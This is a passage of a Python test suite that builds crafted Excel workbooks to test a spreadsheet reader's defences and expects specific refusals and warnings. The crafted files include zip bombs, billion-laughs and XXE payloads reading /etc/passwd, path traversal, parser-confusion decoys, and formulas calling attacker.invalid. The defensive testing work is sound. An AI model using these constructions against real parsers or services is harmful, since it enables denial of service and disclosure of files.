        b'<c r="C1" t="str"><f>HYPERLINK("http://attacker.invalid","click")</f><v>click</v></c>'
        b"</row>"
    )
    return xlsx(_sheet_with(rows))


def _far_cell() -> bytes:
    rows = (
        text_row(1, ["Name", "Acme Ltd"]) + b'<row r="1000000"><c r="A1000000"><v>1</v></c></row>'
    )
    return xlsx(_sheet_with(rows, ["Name", "Acme Ltd"]))


def _far_column() -> bytes:
    rows = b'<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>1</v></c></row>'
    return xlsx(_sheet_with(rows))


def _million_rows() -> bytes:
    """A million rows, streamed: rows without ``r`` number themselves, so one block repeats."""
    head = XML_DECL + b'<worksheet xmlns="' + MAIN_NS + b'"><sheetData>'
    block = b"<row><c><v>1</v></c></row>" * 1000
    stream = padded(head, Repeat(block, 1000), b"</sheetData></worksheet>")
    return xlsx(_sheet_with(b""), special={SHEET: Entry(SHEET, stream=stream)})


def _cell_10mb() -> bytes:
    text = noise(10_000_000, SEED + 1)
    rows = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + text + b"</t></is></c></row>"
    parts = _sheet_with(rows)
    return xlsx(parts, special={SHEET: Entry(SHEET, stream=deflate([parts[SHEET]], 1))})


def _sheet_at_limits() -> bytes:
    """A 190 MB sheet that passes every container limit (90:1 or less, under 200 MB)."""
    head = XML_DECL + b'<worksheet xmlns="' + MAIN_NS + b'"><sheetData><row r="1"><c r="A1">'
    stream = padded(
        head + b"<v>1</v></c></row>", Repeat(b" " * MB, 190), b"</sheetData></worksheet>"
    )
    return xlsx(_sheet_with(b""), special={SHEET: Entry(SHEET, stream=stream)})


def _strings_table(thousands: int) -> bytes:
    """``thousands`` thousand shared strings under the ratio limit, the sheet using the first."""
    head = XML_DECL + b'<sst xmlns="' + MAIN_NS + b'">'
    block = b"<si><t>lol</t></si>" * 1000
    stream = padded(head, Repeat(block, thousands), b"</sst>")
    parts = _sheet_with(text_row(1, ["lol"]), ["lol"])
    return xlsx(parts, special={STRINGS: Entry(STRINGS, stream=stream)})


def _strings_at_limits() -> bytes:
    """One million shared strings (19 MB): the most calamine is asked to hold."""
    return _strings_table(1_000)


def _strings_too_large() -> bytes:
    """Ten million shared strings (190 MB) under the ratio limit: refused from the zip
    directory, by the table's size, before calamine is asked to hold them."""
    return _strings_table(10_000)


def _strings_too_many() -> bytes:
    """1,000,001 empty shared strings (5 MB): one more than are read, counted in a stream."""
    head = XML_DECL + b'<sst xmlns="' + MAIN_NS + b'">'
    stream = padded(head, Repeat(b"<si/>", 1_000_001), b"</sst>")
    parts = _sheet_with(text_row(1, ["lol"]), ["lol"])
    return xlsx(parts, special={STRINGS: Entry(STRINGS, stream=stream)})


def _names(count: int, name: bytes = b"junk%d") -> bytes:
    """``count`` workbook-level defined names, all pointing at Response!A1."""
    one = b'<definedName name="' + name + b'">Response!$A$1</definedName>'
    return b"".join(one % i for i in range(count))


def _many_names() -> bytes:
    """100,001 junk defined names (5 MB of xl/workbook.xml): one more than are read."""
    return xlsx(xlsx_parts(defined_names=_names(100_001)))


def _names_at_limits() -> bytes:
    """100,000 defined names: the most a workbook may have (a 500-bidder scoresheet has
    13,000)."""
    return xlsx(xlsx_parts(defined_names=_names(100_000)))


def _part_of_spaces(part: str, head: bytes, tail: bytes, size: int) -> bytes:
    """A workbook whose ``part`` is ``head``, ``size`` bytes of spaces and ``tail``, padded with
    noise to stay under the ratio limit: too large to parse, whatever it holds."""
    stream = padded(head, Repeat(b" " * 1024, size // 1024), tail)
    return xlsx(xlsx_parts(), special={part: Entry(part, stream=stream)})


def _workbook_too_large() -> bytes:
    head = XML_DECL + b'<workbook xmlns="' + MAIN_NS + b'" xmlns:r="' + REL_NS + b'"><sheets>'
    head += b'<sheet name="Response" sheetId="1" r:id="rId1"/></sheets>'
    return _part_of_spaces(WORKBOOK, head, b"</workbook>", 33 * MB)


PROPS_NS = b"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"
VT_NS = b"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"
CUSTOM = "docProps/custom.xml"


def _many_properties(count: int = 1_001) -> bytes:
    """``count`` custom document properties (a million once took 11.4 s and 0.9 GB)."""
    one = (
        b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="%d" name="p%d">'
        b"<vt:lpwstr>x</vt:lpwstr></property>"
    )
    props = b"".join(one % (i + 2, i) for i in range(count))
    xml = XML_DECL + b'<Properties xmlns="' + PROPS_NS + b'" xmlns:vt="' + VT_NS + b'">'
    return xlsx(xlsx_parts(extra=[(CUSTOM, xml + props + b"</Properties>", None)]))


def _properties_too_large(part: str) -> Callable[[], bytes]:
    def build() -> bytes:
        head = XML_DECL + b'<Properties xmlns="' + PROPS_NS + b'">'
        return _part_of_spaces(part, head, b"</Properties>", 2 * MB)

    return build


def _many_relationships() -> bytes:
    """10,001 relationships in xl/_rels/workbook.xml.rels, each to a part that is not there."""
    parts = xlsx_parts()
    one = b'<Relationship Id="rJ%d" Type="' + REL_TYPE + b'image" Target="media/i%d.png"/>'
    junk = b"".join(one % (i, i) for i in range(10_001))
    rels = parts[WORKBOOK_RELS].replace(b"</Relationships>", junk + b"</Relationships>")
    return xlsx(replace_part(parts, WORKBOOK_RELS, rels))


def _styles_elements() -> bytes:
    """500,001 elements in xl/styles.xml (2 MB): more than any styles part needs."""
    head = XML_DECL + b'<styleSheet xmlns="' + MAIN_NS + b'"><cellXfs>'
    stream = padded(head, Repeat(b"<xf/>" * 1000, 501), b"</cellXfs></styleSheet>")
    return xlsx(xlsx_parts(), special={"xl/styles.xml": Entry("xl/styles.xml", stream=stream)})


def _names_differing_in_case() -> bytes:
    """Two names Excel holds to be one: the reader once took the first, silently."""
    names = (
        b'<definedName name="SV_QTY_M1">Response!$B$1</definedName>'
        b'<definedName name="sv_qty_M1">Response!$A$1</definedName>'
    )
    return xlsx(xlsx_parts(defined_names=names))


def _formula_lies() -> bytes:
    """``=9`` saved with the result 90: Excel and LibreOffice show 9 once they recalculate.
    The reader keeps the formula's text so that a form reader works it out (and warns)."""
    rows = b'<row r="1"><c r="A1"><f>9</f><v>90</v></c><c r="B1"><f>SUM(A1)</f><v>90</v></c></row>'
    return xlsx(_sheet_with(rows))


def _filled_rows(rows: int) -> bytes:
    """``rows`` rows x 200 columns of numbers, every cell filled."""
    head = XML_DECL + b'<worksheet xmlns="' + MAIN_NS + b'"><sheetData>'
    row = b"<row>" + b"<c><v>1</v></c>" * 200 + b"</row>"
    stream = padded(head, Repeat(row * 50, rows // 50), b"</sheetData></worksheet>")
    return xlsx(_sheet_with(b""), special={SHEET: Entry(SHEET, stream=stream)})


def _cells_at_limits() -> bytes:
    """1,250 rows x 200 columns of numbers: the 250,000 filled cells a workbook may have."""
    return _filled_rows(1_250)


def _cells_over_limit() -> bytes:
    """20,000 rows x 200 columns of numbers: within the sheet's bounds, 16 times the cells a
    workbook may have (4,000,000: about 7 s to read before the cell budget)."""
    return _filled_rows(20_000)


GRID_CORNERS = (
    b'<row r="1"><c r="A1"><v>1</v></c></row><row r="20000"><c r="GR20000"><v>1</v></c></row>'
)


def _grid_at_limits() -> bytes:
    """Two cells, at A1 and GR20000: calamine builds the whole 20,000 x 200 grid."""
    return xlsx(_sheet_with(GRID_CORNERS))


def _grid_fanout() -> bytes:
    """100 sheets like grid-at-limits: 33 KB asking calamine for 400 million cells (about
    3 GB of Python lists, and 40 s)."""
    sheets = [(f"S{i}", sheet_xml(GRID_CORNERS)) for i in range(100)]
    return xlsx(xlsx_parts(sheets, []))


def _element_spam() -> bytes:
    """190 MB of empty <x/> elements after one cell: no cell, no text, 50 million elements (about
    35 s of Python callbacks before the element budget)."""
    head = XML_DECL + b'<worksheet xmlns="' + MAIN_NS + b'"><sheetData>'
    head += b'<row r="1"><c r="A1"><v>1</v></c></row>'
    stream = padded(head, Repeat(b"<x/>" * 262_144, 190), b"</sheetData></worksheet>")
    return xlsx(_sheet_with(b""), special={SHEET: Entry(SHEET, stream=stream)})


def _strings_last_used() -> bytes:
    """A million shared strings, the sheet using the last from three cells: finding its length
    means reading the whole table; past the element budget every use is charged the whole
    table's size instead (three times 19 MB is over the text budget)."""
    head = XML_DECL + b'<sst xmlns="' + MAIN_NS + b'">'
    stream = padded(head, Repeat(b"<si><t>lol</t></si>" * 1000, 1_000), b"</sst>")
    cells = b"".join(b'<c r="A%d" t="s"><v>999999</v></c>' % i for i in (1, 2, 3))
    parts = _sheet_with(b'<row r="1">' + cells + b"</row>", ["lol"])
    return xlsx(parts, special={STRINGS: Entry(STRINGS, stream=stream)})


def _text_at_limits() -> bytes:
    """One 2,400-character shared string in 20,000 cells: 48 million characters of text, just
    within the 50 million a workbook may hold (each use counts the string's 2,432 bytes)."""
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (i, i) for i in range(1, 20_001)
    )
    return xlsx(_sheet_with(rows, [noise(2_400, SEED + 3).decode()]))


def _fanout() -> bytes:
    """One 1.5 MB shared string referenced from 20,000 cells: a 1.2 MB file within every
    container limit that asks the reader for 30 GB of text."""
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (i, i) for i in range(1, 20_001)
    )
    return xlsx(_sheet_with(rows, [noise(1_500_000, SEED + 2).decode()]))


FAR_CELL_SHEET = sheet_xml(
    text_row(1, ["Name"]) + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
)
"""A sheet calamine would hold as a dense 1,048,576 x 16,384 grid (512 GB): the reader must
never let calamine near it."""


def _decoy_dotslash() -> bytes:
    """The relationship says ``./worksheets/sheet1.xml``: the reader normalises it and scans
    the harmless ``xl/worksheets/sheet1.xml``; calamine opens the part literally named
    ``xl/./worksheets/sheet1.xml``, which holds the far cell."""
    parts = xlsx_parts([("Response", sheet_xml(text_row(1, ["Name"])))], ["Name"])
    parts[WORKBOOK_RELS] = parts[WORKBOOK_RELS].replace(
        b'Target="worksheets/sheet1.xml"', b'Target="./worksheets/sheet1.xml"'
    )
    parts["xl/./worksheets/sheet1.xml"] = FAR_CELL_SHEET
    return xlsx(parts)


def _decoy_id_attribute() -> bytes:
    """The sheet element carries two ``id`` attributes in different namespaces: the reader
    takes the first (a harmless sheet), calamine the relationships one (the far cell)."""
    parts = xlsx_parts([("Response", sheet_xml(text_row(1, ["Name"])))], ["Name"])
    parts[WORKBOOK] = parts[WORKBOOK].replace(b'r:id="rId1"', b'z:id="rId1" r:id="rId9"')
    parts[WORKBOOK] = parts[WORKBOOK].replace(b"<workbook ", b'<workbook xmlns:z="urn:z" ')
    parts[WORKBOOK_RELS] = parts[WORKBOOK_RELS].replace(
        b"</Relationships>",
        b'<Relationship Id="rId9" Type="%sworksheet" Target="worksheets/far.xml"/>'
        b"</Relationships>" % REL_TYPE,
    )
    parts["xl/worksheets/far.xml"] = FAR_CELL_SHEET
    return xlsx(parts)


def _unknown_encoding(part: str = SHEET, encoding: bytes = b"x-evil") -> Callable[[], bytes]:
    def build() -> bytes:
        parts = xlsx_parts()
        body = parts[part].split(b"?>\n", 1)[1]
        head = b'<?xml version="1.0" encoding="%s"?>\n' % encoding
        return xlsx(replace_part(parts, part, head + body))

    return build


def _utf16(part: str) -> Callable[[], bytes]:
    def build() -> bytes:
        parts = xlsx_parts()
        text = parts[part].decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return xlsx(replace_part(parts, part, text.encode("utf-16")))

    return build


def _decoy_utf16_polyglot() -> bytes:
    """A UTF-16 sheet that expat reads as a text node, whose bytes are, for a reader of bytes,
    the markup of a cell at XFD1048576 (calamine panics on it)."""
    markup = b'<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>  '
    assert len(markup) % 2 == 0, "odd: the UTF-16 that follows would be misaligned"
    head = '<?xml version="1.0" encoding="UTF-16"?><worksheet xmlns="%s"><sheetData/><x>'
    xml = (
        b"\xff\xfe"
        + (head % MAIN_NS.decode()).encode("utf-16-le")
        + markup
        + "</x></worksheet>".encode("utf-16-le")
    )
    return xlsx(replace_part(xlsx_parts(), SHEET, xml))


def _decoy_sheet_names() -> bytes:
    """Sheets named with a literal tab and with ``&#9;``: calamine names both "A<tab>B" (it does
    not normalise attribute whitespace); expat names the first "A B". The far cell is behind the
    first; asking calamine for the second ("A<tab>B") would give the first."""
    parts = xlsx_parts(
        [("A B", FAR_CELL_SHEET), ("A\tB", sheet_xml(text_row(1, ["Name"])))], ["Name"]
    )
    parts[WORKBOOK] = parts[WORKBOOK].replace(b'name="A B"', b'name="A\tB"', 1)
    parts[WORKBOOK] = parts[WORKBOOK].replace(
        b'name="A\tB" sheetId="2"', b'name="A&#9;B" sheetId="2"'
    )
    return xlsx(parts)


def _decoy_escaped_target() -> bytes:
    """The target ``worksheets/sheet&#49;.xml``: expat unescapes it (sheet1.xml, harmless),
    calamine opens the part literally named ``xl/worksheets/sheet&#49;.xml``."""
    parts = xlsx_parts([("Response", sheet_xml(text_row(1, ["Name"])))], ["Name"])
    parts[WORKBOOK_RELS] = parts[WORKBOOK_RELS].replace(
        b'Target="worksheets/sheet1.xml"', b'Target="worksheets/sheet&#49;.xml"'
    )
    parts["xl/worksheets/sheet&#49;.xml"] = FAR_CELL_SHEET
    return xlsx(parts)


def _decoy_nested_relationship() -> bytes:
    """rId1 twice, the second inside another element: a reader of the direct children takes the
    harmless first, calamine (any depth, last wins) the far cell."""
    parts = xlsx_parts([("Response", sheet_xml(text_row(1, ["Name"])))], ["Name"])
    parts[WORKBOOK_RELS] = parts[WORKBOOK_RELS].replace(
        b"</Relationships>",
        b'<x:ext xmlns:x="urn:x"><Relationship Id="rId1" Type="%sworksheet" '
        b'Target="worksheets/far.xml"/></x:ext></Relationships>' % REL_TYPE,
    )
    parts["xl/worksheets/far.xml"] = FAR_CELL_SHEET
    return xlsx(parts)


def _sheet_elsewhere() -> bytes:
    parts = xlsx_parts([("Response", sheet_xml(text_row(1, ["Name"])))], ["Name"])
    parts[WORKBOOK_RELS] = parts[WORKBOOK_RELS].replace(
        b'Target="worksheets/sheet1.xml"', b'Target="/far.xml"'
    )
    parts["far.xml"] = FAR_CELL_SHEET
    return xlsx(parts)


def _unused_far_worksheet() -> bytes:
    parts = xlsx_parts()
    parts["xl/worksheets/sheet9.xml"] = FAR_CELL_SHEET
    return xlsx(parts)


def _sheet_target(target: bytes) -> Callable[[], bytes]:
    def build() -> bytes:
        parts = xlsx_parts()
        rels = parts[WORKBOOK_RELS].replace(b'Target="worksheets/sheet1.xml"', target)
        return xlsx(replace_part(parts, WORKBOOK_RELS, rels))

    return build


def _xinclude() -> bytes:
    rows = (
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>safe</t>'
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
        b'parse="text"/></is></c></row>'
    )
    head = (
        b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" '
        b'href="http://attacker.invalid/x.xsl"?>\n'
    )
    return xlsx(_sheet_with(b"", []) | {SHEET: sheet_xml(rows, head)})


def _texts(texts: Sequence[str]) -> bytes:
    rows = b"".join(text_row(i, [t], i - 1) for i, t in enumerate(texts, start=1))
    return xlsx(_sheet_with(rows, list(texts)))


def _odd_unicode() -> bytes:
    """Odd text in cells of a sheet called Response, and as the names of four more sheets
    (each holding its own name in A1). Shared strings: the sheet names, then the texts."""
    first = len(ODD_SHEET_NAMES)
    rows = b"".join(text_row(i, [t], first + i - 1) for i, t in enumerate(ODD_UNICODE, start=1))
    sheets = [("Response", sheet_xml(rows))]
    sheets += [(name, sheet_xml(text_row(1, [name], i))) for i, name in enumerate(ODD_SHEET_NAMES)]
    return xlsx(xlsx_parts(sheets, [*ODD_SHEET_NAMES, *ODD_UNICODE]))


def _date_overflow() -> bytes:
    styles = (
        XML_DECL
        + b'<styleSheet xmlns="'
        + MAIN_NS
        + b'"><numFmts count="1"><numFmt numFmtId="164" '
        b'formatCode="dd/mm/yyyy"/></numFmts><cellXfs count="2"><xf numFmtId="0"/>'
        b'<xf numFmtId="164" applyNumberFormat="1"/></cellXfs></styleSheet>'
    )
    rows = b'<row r="1"><c r="A1" s="1"><v>-1e308</v></c></row>'
    parts = xlsx_parts(
        [("Response", sheet_xml(rows))],
        [],
        extra=[
            (
                "xl/styles.xml",
                styles,
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml",
            )
        ],
        extra_rels=b'<Relationship Id="rIdY" Type="' + REL_TYPE + b'styles" Target="styles.xml"/>',
    )
    return xlsx(parts)


def _bad_cell_type() -> bytes:
    return xlsx(_sheet_with(b'<row r="1"><c r="A1" t="zz"><v>1</v></c></row>'))


def _too_big() -> bytes:
    """21 MB starting like a zip (write_corpus writes it as a sparse file instead)."""
    return b"PK\x03\x04" + bytes(SPARSE["too-big.xlsx"] - 4)


SPARSE = {"too-big.xlsx": 21 * MB}


def _case(kind: str) -> Callable[..., Case]:
    def make(
        name: str, about: str, build: Callable[[], bytes], *expect: Expect, **kw: object
    ) -> Case:
        return Case(name, kind, about, tuple(expect), build, **kw)  # type: ignore[arg-type]

    return make


workbook = _case("workbook")
rubric = _case("rubric")
tender = _case("tender")
proxies = _case("proxies")


def fatal(name: str, about: str, build: Callable[[], bytes], *expect: Expect, **kw: object) -> Case:
    """A workbook that cannot be read at all: open_workbook raises InputError."""
    return workbook(name, about, build, *expect, fatal=True, **kw)


def _info(data: bytes, part: str) -> zipfile.ZipInfo:
    return zipfile.ZipFile(io.BytesIO(data)).getinfo(part)


def _ratio_case(name: str, about: str, data: bytes, part: str, size: int | None = None) -> Case:
    info = _info(data, part)
    message = ratio_message(part, size or info.file_size, info.compress_size)
    return fatal(name, about, lambda: data, error(message))


def workbook_cases() -> list[Case]:
    parts = len(xlsx_parts()) + 10_001
    damaged = f"part {SHEET} is damaged: {MSG_CORRUPT}"
    missing = error("the sheet's data is missing from the file", context="sheet Response")
    unreadable = contains("the sheet cannot be read: ", context="sheet Response")
    html = MSG_MARKUP
    return [
        # -- not a workbook at all
        fatal("empty.xlsx", "a 0-byte file", lambda: b"", error("the file is empty (0 bytes)")),
        fatal("renamed-pdf.xlsx", "a PDF with an OpenAction script", _renamed_pdf, error(MSG_PDF)),
        fatal("pdf-zip-polyglot.xlsx", "a PDF with a workbook appended", _polyglot, error(MSG_PDF)),
        fatal("renamed-csv.xlsx", "a CSV with formula injection", _renamed_csv, error(MSG_TEXT)),
        fatal("renamed-csv-utf16.xlsx", "a UTF-16 CSV", _renamed_csv_utf16, error(MSG_TEXT)),
        fatal("renamed-html.xlsx", "an HTML page with a script", _renamed_html, error(html)),
        fatal(
            "renamed-exe.xlsx",
            "a self-extracting .exe (MZ stub + zip)",
            _renamed_exe,
            error(MSG_UNKNOWN),
        ),
        fatal(
            "encrypted-ole2.xlsx",
            "a password-protected workbook (OLE2 compound file)",
            _ole2,
            error(MSG_OLE2),
        ),
        fatal("renamed-ods.xlsx", "an OpenDocument spreadsheet", _ods, error(MSG_ODS)),
        fatal(
            "renamed-docx.xlsx",
            "a Word document",
            _docx,
            error("this is a Word document, not an Excel workbook"),
        ),
        fatal(
            "zip-not-workbook.xlsx",
            "a zip that is not a workbook",
            _not_workbook_zip,
            error("this is not an Excel workbook: the zip archive has no xl/workbook.xml"),
        ),
        fatal(
            "too-big.xlsx",
            "a 21 MB file (sparse on disk)",
            _too_big,
            error("the file is 21.0 MB, more than the 20.0 MB allowed for a workbook"),
        ),
        # -- damaged or crafted zips
        fatal("truncated.xlsx", "the first half of a workbook", _truncated, error(MSG_CORRUPT)),
        fatal(
            "damaged-part.xlsx",
            "one flipped byte in the sheet's compressed data",
            _damaged_part,
            error(damaged),
        ),
        _ratio_case(
            "bomb-sheet.xlsx", "a 300 MB sheet of spaces in a 300 KB file", _bomb_sheet(), SHEET
        ),
        _ratio_case(
            "bomb-sharedstrings.xlsx",
            "300 MB of shared strings in a small file",
            _bomb_strings(),
            STRINGS,
        ),
        _ratio_case(
            "bomb-zip64-claim.xlsx",
            "a zip64 entry claiming a 1 TB sheet",
            _bomb_zip64(),
            SHEET,
            1 << 40,
        ),
        fatal(
            "bomb-claims.xlsx",
            "entries claiming 3 x 90 MB (1 KB each really)",
            _bomb_claims,
            error(
                "the workbook would expand to 270 MB, more than the 200 MB allowed: it may "
                "be a zip bomb"
            ),
        ),
        fatal(
            "bomb-many-parts.xlsx",
            f"{parts:,} parts in the zip",
            _many_parts,
            error(
                f"the workbook has {parts:,} parts inside, more than the 10,000 allowed: it "
                "may be a zip bomb"
            ),
        ),
        fatal(
            "overlapping-parts.xlsx",
            "two directory entries sharing one part's data",
            _overlapping,
            error(f"part xl/media/overlap.bin is damaged: {MSG_CORRUPT}"),
        ),
        fatal(
            "lying-size.xlsx",
            "a 2.6 MB sheet whose directory entry says 1,000 bytes",
            _lying_size,
            error(
                f"part {SHEET} is larger than the zip archive declares: the "
                "workbook is damaged or crafted"
            ),
        ),
        fatal(
            "duplicate-part.xlsx",
            "the sheet twice in the zip, with different contents",
            _duplicate_part,
            error(
                f"the zip archive holds part {SHEET} more than once: the "
                "workbook is ambiguous and may be crafted"
            ),
        ),
        fatal(
            "zip-encrypted-part.xlsx",
            "a part with the zip encryption flag",
            _zip_encrypted,
            error(f"part {SHEET} is encrypted inside the zip: cannot read it"),
        ),
        fatal(
            "zip-lzma-part.xlsx",
            "a part claiming LZMA compression",
            _lzma,
            error(
                f"part {SHEET} uses an unsupported compression method (14): save the "
                "workbook again from Excel"
            ),
        ),
        # -- XML attacks: any DTD is refused before a parser sees the part
        fatal(
            "laughs-sheet.xlsx",
            "billion laughs in the sheet",
            lambda: _laughs_in(SHEET),
            error(dtd_message(SHEET)),
        ),
        fatal(
            "laughs-sharedstrings.xlsx",
            "billion laughs in the shared strings",
            lambda: _laughs_in(STRINGS),
            error(dtd_message(STRINGS)),
        ),
        fatal(
            "laughs-workbook.xlsx",
            "billion laughs in xl/workbook.xml",
            lambda: _laughs_in(WORKBOOK),
            error(dtd_message(WORKBOOK)),
        ),
        fatal(
            "xxe-passwd-sheet.xlsx",
            "an external entity: /etc/passwd into a cell",
            lambda: _xxe(SHEET, XXE_FILE),
            error(dtd_message(SHEET)),
        ),
        fatal(
            "xxe-passwd-strings.xlsx",
            "an external entity in the shared strings",
            lambda: _xxe(STRINGS, XXE_FILE),
            error(dtd_message(STRINGS)),
        ),
        fatal(
            "xxe-content-types.xlsx",
            "an external entity in [Content_Types].xml",
            lambda: _xxe(CONTENT_TYPES, XXE_FILE),
            error(dtd_message(CONTENT_TYPES)),
        ),
        fatal(
            "xxe-parameter-entity.xlsx",
            "a remote parameter entity in the relationships",
            lambda: _xxe(WORKBOOK_RELS, XXE_PARAMETER),
            error(dtd_message(WORKBOOK_RELS)),
        ),
        fatal(
            "xxe-utf16.xlsx",
            "an external entity in a UTF-16 sheet",
            _utf16_dtd,
            error(dtd_message(SHEET)),
        ),
        fatal(
            "dtd-after-long-comment.xlsx",
            "a DTD hidden after a 70 KB comment",
            _long_prolog,
            error(
                f"part {SHEET} has an XML prolog longer than 64 KB: refused as a possible "
                "XML attack"
            ),
        ),
        # -- workbook structure
        fatal(
            "damaged-workbook-xml.xlsx",
            "xl/workbook.xml is not XML",
            _damaged_workbook_xml,
            contains("the workbook is damaged: xl/workbook.xml cannot be read ("),
        ),
        fatal(
            "no-sheets.xlsx",
            "a workbook listing no sheets",
            _no_sheets,
            error("the workbook has no sheets"),
        ),
        fatal(
            "duplicate-sheet-names.xlsx",
            "sheets Response and RESPONSE",
            _duplicate_sheet_names,
            error('the workbook has two sheets called "RESPONSE": it is damaged or crafted'),
        ),
        workbook(
            "sheet-path-traversal.xlsx",
            "a sheet whose part is ../../../../etc/passwd",
            _sheet_target(b'Target="../../../../etc/passwd"'),
            missing,
        ),
        workbook(
            "sheet-external-target.xlsx",
            "a sheet that is an external file:// target",
            _sheet_target(b'Target="file:///etc/passwd" TargetMode="External"'),
            missing,
        ),
        # -- encodings: only UTF-8 (Python's codecs and calamine read others differently)
        workbook(
            "sheet-unknown-encoding.xlsx",
            'a sheet declaring encoding="x-evil"',
            _unknown_encoding(),
            not_utf8_sheet('declares the encoding "x-evil"'),
        ),
        workbook(
            "sheet-utf7.xlsx",
            'a sheet declaring encoding="utf-7"',
            _unknown_encoding(encoding=b"utf-7"),
            not_utf8_sheet('declares the encoding "utf-7"'),
        ),
        workbook(
            "decoy-sheet-utf16.xlsx",
            "a UTF-16 sheet whose text is, byte for byte, a cell at XFD1048576",
            _decoy_utf16_polyglot,
            not_utf8_sheet("is in UTF-16"),
            heavy=True,
        ),
        fatal(
            "workbook-unknown-encoding.xlsx",
            'xl/workbook.xml declaring encoding="rot13"',
            _unknown_encoding(WORKBOOK, b"rot13"),
            error(not_utf8_part(WORKBOOK, 'declares the encoding "rot13"')),
        ),
        fatal(
            "sharedstrings-utf16.xlsx",
            "the shared strings in UTF-16",
            _utf16(STRINGS),
            error(not_utf8_part(STRINGS, "is in UTF-16")),
        ),
        # -- decoys: the far-cell guard pointed at a part calamine would not read
        fatal(
            "decoy-sheet-dotslash.xlsx",
            "the sheet's target ./worksheets/sheet1.xml: two parts, the far cell in the other",
            _decoy_dotslash,
            error(
                'part "xl/./worksheets/sheet1.xml" has a name Excel never writes (a "." or ".." '
                "folder): the workbook may be crafted"
            ),
            heavy=True,
        ),
        fatal(
            "decoy-sheet-escaped-target.xlsx",
            "the sheet's target worksheets/sheet&#49;.xml and a part named so, with the far cell",
            _decoy_escaped_target,
            error(
                'part "xl/worksheets/sheet&#49;.xml" has a name Excel never writes (an "&"): '
                "the workbook may be crafted"
            ),
            heavy=True,
        ),
        workbook(
            "decoy-sheet-id-attribute.xlsx",
            "a sheet element with z:id and r:id: the far cell behind r:id",
            _decoy_id_attribute,
            error(
                "the sheet's entry in xl/workbook.xml points at more than one part: the workbook "
                "may be crafted; the sheet was not read",
                context="sheet Response",
            ),
            heavy=True,
        ),
        fatal(
            "decoy-nested-relationship.xlsx",
            "relationship rId1 twice, the second (the far cell) inside another element",
            _decoy_nested_relationship,
            error(
                "the workbook is damaged or crafted: xl/_rels/workbook.xml.rels gives "
                'relationship "rId1" more than once'
            ),
            heavy=True,
        ),
        fatal(
            "decoy-sheet-names.xlsx",
            "sheets named A<tab>B (the far cell) and A&#9;B: one name for calamine, two for expat",
            _decoy_sheet_names,
            error(
                "the workbook is damaged or crafted: its list of sheets reads differently in the "
                "spreadsheet reader (a sheet name with a tab or line break?)"
            ),
            heavy=True,
        ),
        workbook(
            "far-sheet-elsewhere.xlsx",
            "a sheet whose target is /far.xml (calamine opens any part a sheet names)",
            _sheet_elsewhere,
            too_far("Response", "XFD1048576"),
            heavy=True,
        ),
        fatal(
            "unused-far-worksheet.xlsx",
            "a worksheet part no sheet uses, with a cell at XFD1048576",
            _unused_far_worksheet,
            error(
                "part xl/worksheets/sheet9.xml, a worksheet no sheet uses, has something in "
                "XFD1048576, beyond the 20,000 rows and 200 columns that can be read: the "
                "workbook may be crafted"
            ),
        ),
        # -- active content: warned about, never run, never followed
        workbook(
            "macros.xlsm",
            "a macro-enabled workbook with a VBA project",
            _macros,
            warning(MSG_MACROS),
            values={"Response!B1": "Acme Ltd"},
        ),
        fatal(
            "xlm-macrosheet.xlsx",
            "an Excel 4.0 macro sheet with Auto_Open (calamine cannot open such workbooks)",
            _xlm_macrosheet,
            warning(MSG_MACROS),
            contains("the workbook cannot be read: "),
        ),
        workbook(
            "external-links.xlsx",
            "a formula linking to \\\\attacker.invalid\\share",
            _external_links,
            warning(MSG_LINKS),
            values={"Response!B1": 42.0, "Response!C1": 0.0},
        ),
        workbook(
            "dde-formulas.xlsx",
            "DDE and HYPERLINK formulas with saved results",
            _dde,
            values={"Response!A1": "0", "Response!B1": 7.0, "Response!C1": "click"},
        ),
        workbook(
            "xinclude-stylesheet.xlsx",
            "XInclude of /etc/passwd, a remote stylesheet PI",
            _xinclude,
            values={"Response!A1": "safe"},
        ),
        # -- size limits inside a sheet
        workbook(
            "million-rows-far-cell.xlsx",
            "one cell at A1000000",
            _far_cell,
            too_far("Response", "A1000000"),
        ),
        workbook(
            "million-rows.xlsx",
            "a million rows, streamed",
            _million_rows,
            too_far("Response", "A20001"),
            heavy=True,
        ),
        workbook("far-column.xlsx", "a cell at XFD1", _far_column, too_far("Response", "XFD1")),
        workbook(
            "cell-10mb.xlsx",
            "one 10,000,000-character cell",
            _cell_10mb,
            error(
                "the cell holds 10,000,000 characters, more than the 100,000 that are "
                "read; only the first 100,000 were kept",
                cell="Response!A1",
            ),
            heavy=True,
        ),
        workbook(
            "sheet-at-limits.xlsx",
            "a 190 MB sheet within every container limit",
            _sheet_at_limits,
            heavy=True,
            values={"Response!A1": 1.0},
        ),
        workbook(
            "sharedstrings-at-limits.xlsx",
            "one million shared strings: the most a workbook may have",
            _strings_at_limits,
            heavy=True,
            values={"Response!A1": "lol"},
        ),
        workbook(
            "cells-at-limits.xlsx",
            "1,250 x 200 cells: the 250,000 filled cells the limits allow",
            _cells_at_limits,
            heavy=True,
            values={"Response!GR1250": 1.0},
        ),
        workbook(
            "cells-over-limit.xlsx",
            "20,000 x 200 cells: 4,000,000 filled cells, within the sheet's bounds",
            _cells_over_limit,
            budget("Response", "250,000 cells holding something"),
        ),
        workbook(
            "grid-at-limits.xlsx",
            "cells at A1 and GR20000: the whole 20,000 x 200 grid",
            _grid_at_limits,
            heavy=True,
            values={"Response!A1": 1.0, "Response!GR20000": 1.0},
        ),
        workbook(
            "grid-fanout.xlsx",
            "100 sheets with cells at A1 and GR20000: 400 million cells from 33 KB",
            _grid_fanout,
            *(budget(f"S{i}", GRID_BUDGET) for i in range(1, 100)),
            heavy=True,
